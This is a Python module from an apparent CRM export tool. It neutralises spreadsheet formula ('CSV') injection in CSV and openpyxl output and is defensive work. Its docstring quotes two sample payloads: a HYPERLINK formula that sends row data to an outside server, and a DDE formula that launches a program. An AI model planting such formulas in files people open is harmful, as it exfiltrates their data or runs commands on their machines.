"""Spreadsheet formula injection ("CSV injection"): make text from the source systems safe to open.

A customer or contact named ``=HYPERLINK("http://x/?"&A2,"click")`` or ``=cmd|' /C calc'!A0`` comes in
from the CRM extract. Written raw into a CSV file, or assigned to an openpyxl cell (openpyxl stores any
str starting with "=" as a formula), it becomes a live formula when a manager opens the file in Excel or
LibreOffice: a HYPERLINK can send the row's mobile numbers to a foreign server, DDE can run a program.

Spreadsheets take text starting with ``=``, ``+``, ``-`` or ``@`` for a formula, and some importers skip
a leading tab or carriage return, so the dangerous prefixes are (OWASP, "CSV Injection")::

    =  +  -  @  \\t  \\r

A genuine number is not a formula, even with a sign: ``-5``, ``+3``, ``-1200.50``, ``-1.5e3`` are left
alone (they carry no cell reference nor function); ``-2+3``, ``-A1``, ``+86 138 0000 0001`` are not plain
numbers and are neutralised. Values that are not ``str`` (int, float, Decimal, date, datetime, None, ...)
are never touched: they are typed values, not text a spreadsheet could parse.

Two ways to neutralise, one per file format:

- CSV (`neutralise`, `neutralise_row`): a CSV cell is plain text that the spreadsheet parses as if typed,
  so the only defence is to change the text: a single quote ``'`` is put in front (OWASP practice).
  Excel and LibreOffice then show the text, not a formula; the quote is part of the CSV text (it may
  show in the cell), which is the accepted price of the CSV format.
- Excel (`protect_cell`): an .xlsx cell has an explicit type, so the text itself is kept exactly as it
  came (the manager sees the customer's real name, without a quote): the cell is forced to be a string
  (``data_type = "s"``, written as an inline string, never an ``<f>`` formula element) and, when the
  text starts with a dangerous prefix, it gets the ``quotePrefix`` style flag - what Excel itself sets
  when one types ``'=...`` - so that Excel and LibreOffice keep it as text even when a manager edits
  the cell and presses Enter. Every str gets ``data_type = "s"``, which also keeps a name such as
  ``#N/A`` a text (openpyxl would otherwise store it as an error cell). (A leading CR is read back as
  LF by XML parsers, openpyxl included: XML line-end normalisation, harmless here.)

Reading back: the verdict loader (quality.verification) reads only the activity id, week and the four
verdict columns of a returned file. We never put a quote in those (ids and weeks never start with a
dangerous prefix, the verdict columns are exported empty), so nothing has to be removed on reading; a
note the manager starts with "-" or "=" is loaded as the text the file holds, and never evaluated (the
.xlsx export formats the note and verified-by columns as Text, so Excel keeps such a typed note as text).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any, Final, TypeVar, overload

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell

DANGEROUS_PREFIXES: Final[tuple[str, ...]] = ("=", "+", "-", "@", "\t", "\r")
QUOTE: Final[str] = "'"

# A plain decimal number, with an optional sign and exponent: "-5", "+3", "-1200.50", ".5", "-1.5e3".
_PLAIN_NUMBER: Final = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")

T = TypeVar("T")


def is_formula_like(value: object) -> bool:
    """True when `value` is a str a spreadsheet could take for a formula: it starts with one of
    `DANGEROUS_PREFIXES` and is not a plain number. False for any non-str value and for ""."""
    return (
        isinstance(value, str)
        and value.startswith(DANGEROUS_PREFIXES)
        and _PLAIN_NUMBER.fullmatch(value) is None
    )


@overload
def neutralise(value: str) -> str: ...
@overload
def neutralise(value: T) -> T: ...
def neutralise(value: Any) -> Any:
    """A CSV cell value that no spreadsheet evaluates: a formula-like str gets a leading ``'``
    (``"=1+1"`` -> ``"'=1+1"``); any other value, str or not, is returned unchanged (the same object)."""
    return QUOTE + value if is_formula_like(value) else value


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    """`neutralise` applied to every value of a CSV row."""
    return [neutralise(value) for value in values]


def protect_cell(cell: Cell) -> Cell:
    """Make an openpyxl cell that holds text safe, after its value was assigned.

    A str value is forced to a string cell (``data_type = "s"``: openpyxl made one starting with "="
    a formula); the text is kept exactly. When it is formula-like, the cell also gets the
    ``quotePrefix`` style flag, so Excel/LibreOffice keep it as text when the cell is edited.
    Cells holding anything else (numbers, dates, None) are left as they are. Returns the cell.
    """
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if is_formula_like(cell.value):
            cell.quotePrefix = True
    return cell
